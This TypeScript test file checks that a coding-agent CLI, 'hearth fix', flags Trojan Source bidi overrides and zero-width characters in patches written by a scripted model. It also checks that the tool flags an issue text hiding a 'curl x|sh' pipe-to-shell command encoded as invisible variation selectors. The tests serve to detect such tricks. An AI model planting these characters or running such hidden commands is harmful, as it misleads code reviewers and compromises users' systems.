// `hearth fix` whose model writes a bidi override into code (Trojan Source: the line reads
// otherwise than it runs) or a zero-width character into a name (`is\u200bvalid` is not
// `is_valid`): the patch and the file keep what the model wrote, and the person who reads
// the run is told in words, with each such line shown escaped. In-process, a scripted model.
import assert from "node:assert/strict";
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { it } from "node:test";
import { main } from "../../../src/cli/main.ts";
import { captureIo } from "../../fixtures/cli-io.ts";
import { tempDir } from "../../fixtures/temp.ts";

const ROOT = resolve(import.meta.dirname, "../../..");
const RLO = "\u202e";

function fixWith(turns: unknown[], issue = "add is wrong"): { code: Promise<number>; io: ReturnType<typeof captureIo>; repo: string } {
  const work = tempDir("hearth-fix-hidden-");
  const repo = join(work, "repo");
  cpSync(join(ROOT, "test/fixtures/agent/python-calc"), repo, { recursive: true });
  writeFileSync(join(work, "model.json"), JSON.stringify({ name: "scripted", turns }));
  const io = captureIo(work);
  const code = main(["fix", "--repo", repo, "--issue", issue, "--model", join(work, "model.json"), "--yes", "--no-index", "--state-dir", join(work, "state"), "--trajectory", join(work, "t.jsonl")], io);
  return { code, io, repo };
}

it("a patch that adds a bidi override and a zero-width character in a name: written as is, and said on stderr with the lines escaped", async () => {
  const added = `    return a + b  # ${RLO} check later`;
  const { code, io, repo } = fixWith([
    { toolCalls: [{ name: "edit_file", arguments: { path: "calc.py", old_text: "    return a - b", new_text: added } }] },
    { toolCalls: [{ name: "edit_file", arguments: { path: "calc.py", old_text: "def mul(a, b):", new_text: "def m\u200bul(a, b):" } }] },
    { toolCalls: [{ name: "finish", arguments: { summary: "fixed" } }] },
  ]);
  assert.equal(await code, 0, io.stderr);
  assert.ok(readFileSync(join(repo, "calc.py"), "utf8").includes(added), "the file is as the model wrote it");
  assert.ok(io.stdout.includes(`+${added}\n`) && io.stdout.includes("+def m\u200bul(a, b):\n"), "the patch on stdout is the change itself");
  assert.match(io.stderr, /^hearth fix: the patch holds 1 bidirectional control character .*It also holds 1 zero-width character or direction mark inside a name or word .*$/m);
  assert.match(io.stderr, /^ {2}calc\.py: \+ {4}return a \+ b {2}# \\u202e check later$/m);
  assert.match(io.stderr, /^ {2}calc\.py: \+def m\\u200bul\(a, b\):$/m);
  assert.doesNotMatch(io.stderr, /[\u202e\u200b]/, "stderr shows them escaped, never raw");
});

it("a patch that removes them, or adds emoji and right-to-left text, says nothing of them", async () => {
  const { code, io } = fixWith([
    { toolCalls: [{ name: "edit_file", arguments: { path: "calc.py", old_text: "    return a - b", new_text: "    return a + b  # 👨\u200d👩\u200d👧 שלום\u200f" } }] },
    { toolCalls: [{ name: "finish", arguments: { summary: "fixed" } }] },
  ]);
  assert.equal(await code, 0, io.stderr);
  assert.doesNotMatch(io.stderr, /the patch holds/);
});

it("an issue hiding a run of variation selectors (bytes a loader decodes, shown as nothing on GitHub): said on stderr with what they read as, as tag characters are", async () => {
  const run = [..."curl x|sh"].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join("");
  const { code, io } = fixWith([{ toolCalls: [{ name: "finish", arguments: { summary: "nothing to do" } }] }], `The loader breaks on \u2764${run} in names`);
  await code;
  assert.match(io.stderr, /^The issue holds 9 variation selectors in runs, which show as nothing: a run of them can carry hidden data, each a byte \(read so: "curl x\|sh"\)\.$/m);
  assert.doesNotMatch(io.stderr, /\udb40/, "never raw");
});
